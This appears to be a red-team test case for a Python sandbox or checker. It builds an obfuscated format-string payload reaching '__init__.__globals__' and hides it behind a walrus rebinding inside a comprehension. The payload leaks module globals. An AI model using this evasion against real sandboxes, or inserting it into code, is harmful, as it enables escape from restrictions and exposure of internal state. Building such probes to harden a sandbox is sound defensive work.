# family: red team, round 60b (walrus in comprehension rebinds module table name)
U = chr(len("x" * 95)) * 2
EVIL = "{0." + U + "init" + U + "." + U + "globals" + U + "}"


class K:
    def __init__(self):
        self.v = 1


T = ["{0}"]
_ = [(T := [EVIL]) for _i in range(1)]
print(T[0].format(K()))
